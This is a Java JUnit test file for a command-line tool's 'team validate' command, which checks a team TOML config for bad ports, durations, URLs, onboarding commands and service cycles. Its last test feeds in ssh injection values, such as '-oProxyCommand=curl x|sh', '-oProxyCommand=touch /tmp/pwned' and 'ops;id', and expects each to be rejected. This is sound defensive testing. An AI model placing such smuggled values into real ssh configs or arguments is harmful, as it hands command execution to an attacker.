package dev.tcli.team;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tcli.testkit.TcliHarness;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code tcli team validate} as a control repo's CI runs it: TCLI_TEAM_DIR=., no personal config. */
class ValidateTest {
    @TempDir
    Path tmp;
    TcliHarness t;
    Path file;

    @BeforeEach
    void setUp() {
        t = new TcliHarness(tmp).env("TCLI_TEAM_DIR", tmp.resolve("repo").toString());
        file = tmp.resolve("repo/tcli-team.toml");
    }

    private TcliHarness.Result validate(String toml, String... extra) {
        t.writeFile(file, toml, "rw-r--r--");
        List<String> args = new ArrayList<>(List.of("team", "validate"));
        args.addAll(List.of(extra));
        return t.run(args.toArray(String[]::new));
    }

    @Test
    void aGoodFileIsValid() {
        var r = validate(TeamCommandsTest.TEAM);
        assertEquals(0, r.exit(), r.toString());
        assertEquals("", r.stdout());
        var j = validate(TeamCommandsTest.TEAM, "-o", "json");
        assertEquals("[]", j.json().toString());
    }

    @Test
    void everyProblemHasFileLineAndKey() {
        String toml = """
                [environments.live]
                jump_host = "jump.example.com"
                jump_port = "twenty-two"

                [[environments.live.nodes]]
                name = "live-api-0"
                host = "10.0.1.12"

                [[environments.live.nodes]]
                name = "live-db-0"
                port = 70000

                [services.builder-api]
                requires = ["builder-datastore"]

                [logs.saved.errors]
                since = "a while"

                [web]
                live-api = "ftp://dashboards.example.com/live-api"
                wiki = { url = "https://wiki.example.com", descripton = "typo" }

                [[onboard.checks]]
                name = "Vault access"
                hint = "Ask a teammate"

                [[onboard.checks]]
                name = "Fastly"
                run = "fastly whoami"
                shell = "yes"
                timeout = "soon"

                [dashboards]
                x = 1
                """;
        var r = validate(toml);
        assertEquals(1, r.exit(), r.toString());
        String out = r.stdout();
        String f = file.toString();
        assertTrue(out.contains(f + ":3: environments.live.jump_port: must be a port number, not a string"), out);
        assertTrue(out.contains(f + ":9: environments.live.nodes[1]: missing host (every node needs name and host)"), out);
        assertTrue(out.contains(f + ":11: environments.live.nodes[1].port: port out of range (1-65535): 70000"), out);
        assertTrue(out.contains(f + ":14: services.builder-api.requires: unknown service builder-datastore"), out);
        assertTrue(out.contains(f + ":16: logs.saved.errors: missing query"), out);
        assertTrue(out.contains(f + ":17: logs.saved.errors.since: not a duration"), out);
        assertTrue(out.contains(f + ":20: web.live-api: not an http(s) URL: ftp://dashboards.example.com/live-api"), out);
        assertTrue(out.contains(f + ":21: web.wiki.descripton: unknown key (known: description, url) (warning)"), out);
        assertTrue(out.contains(f + ":23: onboard.checks[0]: missing run (every check needs name and run)"), out);
        assertTrue(out.contains(f + ":30: onboard.checks[1].shell: must be true or false"), out);
        assertTrue(out.contains(f + ":31: onboard.checks[1].timeout: not a duration"), out);
        assertTrue(out.contains(f + ":33: dashboards: unknown table (known: environments, services, logs, web, onboard, status, tcli)"), out);
        assertTrue(r.stderr().contains("11 errors, 1 warning"), r.toString());

        var j = validate(toml, "-o", "json");
        assertEquals(1, j.exit(), j.toString());
        JsonNode first = j.json().get(0);
        assertEquals(f, first.get("file").asText());
        assertEquals(3, first.get("line").asInt());
        assertEquals("environments.live.jump_port", first.get("key").asText());
        assertEquals("error", first.get("level").asText());
        assertTrue(first.get("problem").asText().startsWith("must be a port number"));
    }

    /** What the consumers accept, validate accepts: onboard's argv form and fractional timeouts, ssh's inventory_timeout, logs' since. */
    @Test
    void whatTheModulesReadIsValid() {
        var r = validate("""
                [environments.live]
                inventory_cmd = "scripts/inventory live"
                inventory_timeout = "45s"

                [logs.saved.today]
                query = "_sourceCategory=live/api error"
                since = "today"

                [[onboard.checks]]
                name = "Vault access"
                run = ["vault", "token", "lookup"]
                timeout = 1.5

                [[onboard.checks]]
                name = "AWS console"
                run = "aws sts get-caller-identity | grep -q habitat"
                shell = true

                [[onboard.checks]]
                name = "quoted"
                run = "sh -c 'echo \\"ok\\"'"
                """, "--strict");
        assertEquals(0, r.exit(), r.toString());
        assertEquals("", r.stdout());
    }

    @Test
    void aRunThatOnboardCannotRunIsAnErrorThatSaysWhatToWrite() {
        var r = validate("""
                [[onboard.checks]]
                name = "number"
                run = 5

                [[onboard.checks]]
                name = "empty array"
                run = []

                [[onboard.checks]]
                name = "not a word"
                run = ["sleep", 5]

                [[onboard.checks]]
                name = "no program"
                run = ["", "x"]

                [[onboard.checks]]
                name = "table"
                run = { cmd = "x" }

                [[onboard.checks]]
                name = "blank"
                run = "  "

                [[onboard.checks]]
                name = "open quote"
                run = "echo 'oops"
                timeout = "0s"

                [[onboard.checks]]
                name = "zero"
                run = "true"
                timeout = 0
                """);
        assertEquals(1, r.exit(), r.toString());
        String out = r.stdout();
        String f = file.toString();
        assertTrue(out.contains(f + ":3: onboard.checks[0].run: must be a string or an array of strings, not an integer: "
                + "run = \"vault token lookup\" or run = [\"vault\", \"token\", \"lookup\"] (here run = \"5\")"), out);
        assertTrue(out.contains(f + ":7: onboard.checks[1].run: is an empty array: give the program and its arguments, "
                + "e.g. run = [\"vault\", \"token\", \"lookup\"]"), out);
        assertTrue(out.contains(f + ":11: onboard.checks[2].run: run[1] is an integer, not a string: quote every word, run = [\"sleep\", \"5\"]"), out);
        assertTrue(out.contains(f + ":15: onboard.checks[3].run: run[0] is empty: the first word is the program to run"), out);
        assertTrue(out.contains(f + ":19: onboard.checks[4].run: must be a string or an array of strings, not a table"), out);
        assertTrue(out.contains(f + ":23: onboard.checks[5].run: is empty: write the command, e.g. run = \"vault token lookup\""), out);
        assertTrue(out.contains(f + ":27: onboard.checks[6].run: unbalanced ' (run is split into words like a shell would)"), out);
        assertTrue(out.contains(f + ":28: onboard.checks[6].timeout: must be more than 0: 0s"), out);
        assertTrue(out.contains(f + ":33: onboard.checks[7].timeout: must be more than 0 seconds: 0"), out);
        assertTrue(r.stderr().contains("9 errors"), r.toString());
    }

    @Test
    void aBlankQueryAndABadInventoryTimeoutAreErrors() {
        var r = validate("""
                [environments.live]
                inventory_cmd = "scripts/inventory live"
                inventory_timeout = "soon"

                [environments.acceptance]
                inventory_cmd = "scripts/inventory acceptance"
                inventory_timeout = 20

                [logs.saved.blank]
                query = ""
                since = "a while"
                """);
        assertEquals(1, r.exit(), r.toString());
        String out = r.stdout();
        String f = file.toString();
        assertTrue(out.contains(f + ":3: environments.live.inventory_timeout: not a duration such as \"20s\" or \"1m\": soon"), out);
        assertTrue(out.contains(f + ":7: environments.acceptance.inventory_timeout: must be a duration string such as \"20s\", not an integer "
                + "(here inventory_timeout = \"20s\")"), out);
        assertTrue(out.contains(f + ":10: logs.saved.blank.query: is empty: write the search"), out);
        assertTrue(out.contains(f + ":11: logs.saved.blank.since: not a duration or time such as \"15m\", \"2h\" or \"today\": a while"), out);
    }

    @Test
    void serviceCyclesAndSelfRequiresAreErrors() {
        var r = validate("""
                [services.a]
                requires = ["b"]
                [services.b]
                requires = ["c"]
                [services.c]
                requires = ["a", "c"]
                """);
        assertEquals(1, r.exit(), r.toString());
        assertTrue(r.stdout().contains("services.c.requires: a service cannot require itself"), r.toString());
        assertTrue(r.stdout().contains("requires form a cycle: a -> b -> c -> a"), r.toString());
    }

    @Test
    void warningsPassUnlessStrict() {
        String toml = "[environments.live]\njump_host = \"j\"\ninventory_cmd = \"x\"\ncolour = \"blue\"\n";
        var r = validate(toml);
        assertEquals(0, r.exit(), r.toString());
        assertTrue(r.stdout().contains(":4: environments.live.colour: unknown key"), r.toString());
        assertEquals(1, validate(toml, "--strict").exit());
    }

    @Test
    void notTomlAtAllIsAConfigErrorWithTheLine() {
        var r = validate("[web]\nlive = \"https://x.example.com\"\n[[onboard.checks]\n");
        assertEquals(3, r.exit(), r.toString());
        assertTrue(r.stderr().matches("(?s).*tcli-team.toml:[34]: invalid TOML.*"), r.toString());
    }

    @Test
    void aRepoWithoutTheFileFails() {
        t.writeFile(tmp.resolve("repo/README.md"), "x", "rw-r--r--");
        var r = t.run("team", "validate");
        assertEquals(1, r.exit(), r.toString());
        assertTrue(r.stdout().contains("tcli-team.toml: no such file"), r.toString());
    }

    /** Issue 14 section 1: every value that reaches ssh, each kind of hostile entry an error at its line. */
    @Test
    void entriesThatWouldTakeOverSshAreErrorsAtTheirLine() {
        String toml = """
                [environments."live prod"]
                jump_host = "-oProxyCommand=touch /tmp/pwned"
                jump_user = "ops;id"
                user = "-lroot"

                [[environments."live prod".nodes]]
                name = "*"
                host = "10.0.0.1 -oProxyCommand=curl x|sh"

                [[environments."live prod".nodes]]
                name = "db?"
                host = "10.0.0.1;cmd"
                user = "root@evil"

                [[environments."live prod".nodes]]
                name = "!github.com,gitlab.com"
                host = "fe80::1"

                [environments.ok]
                jump_host = "2001:db8::1"

                [[environments.ok.nodes]]
                name = "ok-0"
                host = "node-0.internal"
                user = "ubuntu"
                """;
        var r = validate(toml);
        assertEquals(1, r.exit(), r.toString());
        String f = file.toString();
        for (String expected : List.of(
                f + ":1: environments.live prod: environment name 'live prod' is not a usable name",
                f + ":2: environments.live prod.jump_host: '-oProxyCommand=touch /tmp/pwned' is not a hostname",
                f + ":3: environments.live prod.jump_user: 'ops;id' is not a user name",
                f + ":4: environments.live prod.user: '-lroot' is not a user name",
                f + ":7: environments.live prod.nodes[0].name: '*' is not a usable name",
                f + ":8: environments.live prod.nodes[0].host: '10.0.0.1 -oProxyCommand=curl x|sh' is not a hostname",
                f + ":11: environments.live prod.nodes[1].name: 'db?' is not a usable name",
                f + ":12: environments.live prod.nodes[1].host: '10.0.0.1;cmd' is not a hostname",
                f + ":13: environments.live prod.nodes[1].user: 'root@evil' is not a user name",
                f + ":16: environments.live prod.nodes[2].name: '!github.com,gitlab.com' is not a usable name")) {
            assertTrue(r.stdout().contains(expected), expected + "\n--- in ---\n" + r.stdout());
        }
        assertEquals(10, r.stdout().lines().count(), "the IPv6 node host and the ok environment are fine: " + r.stdout());
        assertTrue(r.stderr().contains("10 errors"), r.stderr());
    }
}
